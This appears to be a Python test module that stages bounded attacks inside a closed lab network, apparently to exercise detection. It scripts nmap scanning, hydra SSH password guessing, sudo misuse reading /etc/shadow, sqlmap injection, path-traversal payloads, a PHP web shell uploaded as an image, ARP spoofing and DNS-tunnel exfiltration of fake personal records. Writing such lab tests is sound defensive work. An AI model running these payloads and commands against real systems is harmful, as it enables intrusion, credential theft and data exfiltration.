"""What is done to the lab: every attack is a real tool with a bound on its count and time; none leaves the LAN."""

import base64
import signal
from collections.abc import Sequence
from pathlib import Path

from tests.lab.host import Host
from tests.lab.lab import Lab
from tests.lab.lan import DOMAIN
from tests.lab.ssh import shell
from tests.lab.waiting import until

PORTAL = f"http://portal.{DOMAIN}"
TUNNEL_DOMAIN = "cap-nhat-he-thong.example"
TUNNEL_QUESTIONS = 60
WEBSHELL = "<?php /* bai lab: chi tra loi danh sach lenh co san */ system($_GET['cmd']); ?>\n"
WRONG_PASSWORDS = (Path(__file__).parent / "wrong-passwords.txt").read_text(encoding="ascii").split()


def port_scan(lab: Lab) -> None:
    """Look for open ports of the server with nmap's SYN scan: 300 ports, seconds."""
    lab.attacker.run(
        ["nmap", "-sS", "-Pn", "-n", "-T4", "--top-ports", "300", "--max-retries", "1", lab.server.address]
    )


def invalid_users(lab: Lab) -> None:
    """Try three names the server does not have, twice each."""
    _hydra(lab.attacker, lab.server, ["admin", "oracle", "test"], ["123456", "admin"])


def guess_password(lab: Lab, *, user: str = "canbo1", wrong: Sequence[str] = WRONG_PASSWORDS) -> None:
    """Guess the password of `user` over ssh with hydra: all the wrong ones first, then the right one."""
    said = _hydra(lab.attacker, lab.server, [user], [*wrong, lab.accounts[user].password])
    if "1 valid password found" not in said:
        raise RuntimeError(f"hydra did not find the password: {said[-500:]}")


def misuse_account(lab: Lab, *, user: str = "canbo1") -> None:
    """Log in with the guessed password, look around, and try what sudo allows and what it refuses."""
    password = lab.accounts[user].password + "\n"
    shell(lab, lab.attacker, user, "id; uname -n; ls -la")
    shell(lab, lab.attacker, user, "sudo -S tail /var/log/nginx/access.log", stdin=password)
    shell(lab, lab.attacker, user, "sudo -S cat /etc/shadow", stdin=password, check=False)
    shell(lab, lab.attacker, user, "sudo -S /bin/bash", stdin=password, check=False)
    shell(lab, lab.attacker, user, "sudo -k -S id", stdin="root\nadmin\n123456\n", check=False)


def sudo_without_rights(lab: Lab) -> None:
    """Let the helper, who has no sudo rights at all, try to read the administrator's files."""
    password = lab.accounts["hotro"].password + "\n"
    shell(lab, lab.workstation, "hotro", "sudo -S ls /home/quantri", stdin=password, check=False)


def sql_injection(lab: Lab) -> None:
    """Let sqlmap find the weak search and list the tables; its fastest settings, no outside look-ups."""
    target = ["sqlmap", "-u", f"{PORTAL}/tra-cuu?ma=HS-0001", "-p", "ma", "--dbms=sqlite", "--tables"]
    bounds = ["--batch", "--technique=BU", "--level=1", "--risk=1", "--threads=1", "--timeout=5", "--retries=0"]
    done = lab.attacker.run([*target, *bounds, "--output-dir=/run/sqlmap"], seconds=120)
    if "ho_so" not in done.stdout:
        raise RuntimeError(f"sqlmap did not find the table: {done.stdout[-500:]}")


def path_traversal(lab: Lab) -> None:
    """Ask for files outside the portal's folder, plainly and encoded; the weak page gives /etc/passwd away."""
    for path in (
        "/../../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc/passwd",
        "/tai-lieu?tep=../../../../etc/passwd",
        "/tai-lieu?tep=..%2f..%2f..%2f..%2fetc%2fhostname",
        "/tai-lieu?tep=....//....//etc/shadow",
    ):
        lab.attacker.run(["curl", "-s", "--max-time", "5", "--path-as-is", PORTAL + path])


def plant_webshell(lab: Lab, *, name: str = "anh-the.php") -> None:
    """Upload a small web shell through the portal's form for attachments."""
    lab.attacker.run(
        ["curl", "-s", "--max-time", "5", "-F", f"tep=@-;filename={name};type=image/jpeg", f"{PORTAL}/ho-so/tai-len"],
        stdin=WEBSHELL,
    )


def use_webshell(lab: Lab, command: str, *, name: str = "anh-the.php") -> str:
    """Run one command of the web shell's list and return its page."""
    url = f"{PORTAL}/uploads/{name}"
    return lab.attacker.run(["curl", "-s", "--max-time", "5", "-G", url, "--data-urlencode", f"cmd={command}"]).stdout


def plant_program(lab: Lab, *, name: str = "cap-nhat", seconds: int = 300) -> None:
    """Upload a copy of /bin/sleep and start it through the web shell: a process from the upload folder."""
    form = f"tep=@/bin/sleep;filename={name};type=image/jpeg"
    lab.attacker.run(["curl", "-s", "--max-time", "5", "-F", form, f"{PORTAL}/ho-so/tai-len"])
    if "started" not in use_webshell(lab, f"./{name} {seconds}"):
        raise RuntimeError("the portal did not start the uploaded program")


def web_shell(lab: Lab) -> None:
    """Upload a web shell, look around with it, bring a program in and start it."""
    plant_webshell(lab)
    for command in ("id", "whoami", "pwd", "ls -l", "cat /etc/passwd"):
        use_webshell(lab, command)
    plant_program(lab, seconds=2)


def arp_spoofing(lab: Lab, *, seconds: float = 7) -> None:
    """Tell the workstation with dsniff's arpspoof, for some seconds, that the gateway is at the attacker's address."""
    lab.workstation.run(["ping", "-c", "2", "-W", "1", lab.gateway.address], check=False)
    spoof = lab.attacker.popen(
        ["arpspoof", "-i", "eth0", "-t", lab.workstation.address, lab.gateway.address], log="arpspoof.out"
    )
    until(lambda: lab.attacker.mac in _neighbour(lab.workstation, lab.gateway.address), "the false ARP entry", 15)
    lab.workstation.run(["ping", "-c", str(int(seconds)), "-W", "1", lab.gateway.address], check=False)
    # On an interrupt arpspoof puts the true address back, five times in five seconds.
    lab.attacker.stop(spoof, signal.SIGINT, seconds=15)


def dns_tunnel(lab: Lab, *, questions: int = TUNNEL_QUESTIONS) -> None:
    """Carry text out in the names of TXT questions, through the agency's own name server, to the attacker."""
    far_end = lab.attacker.popen(
        ["/usr/bin/python3", "-I", Path(__file__).parent / "tunnel.py", lab.attacker.address], log="tunnel.out"
    )
    until(lambda: ":53 " in lab.attacker.run(["ss", "-lun"]).stdout, "the far end of the tunnel")
    loot = (f"{number:04d};Nguyen Van Mau {number};000{number:09d};Phuong Mau;" * 3 for number in range(questions))
    names = (f"{number:x}.{_labels(text)}.{TUNNEL_DOMAIN} TXT" for number, text in enumerate(loot))
    batch = lab.workstation.folder / "questions.txt"
    batch.write_text("\n".join(names) + "\n", encoding="ascii")
    lab.workstation.run(["dig", "+tries=1", "+time=2", "-f", batch])
    far_end.kill()
    far_end.wait(timeout=10)


def _labels(text: str) -> str:
    coded = base64.b32encode(text.encode("ascii")).decode("ascii").rstrip("=").lower()[:160]
    return ".".join(coded[i : i + 55] for i in range(0, len(coded), 55))


def _hydra(attacker: Host, target: Host, users: Sequence[str], passwords: Sequence[str]) -> str:
    script = 'cat > passwords; printf "%s\\n" "$@" > users; exec hydra -L users -P passwords -t 4 -f -I ssh://'
    done = attacker.run(
        ["bash", "-c", script + target.address, "hydra", *users],
        stdin="\n".join(passwords) + "\n",
        seconds=180,
        check=False,
    )
    if "valid password" not in done.stdout:
        raise RuntimeError(f"hydra did not finish: {done.stdout[-500:]}{done.stderr[-500:]}")
    return done.stdout


def _neighbour(host: Host, address: str) -> str:
    return host.run(["ip", "neighbour", "show", address]).stdout
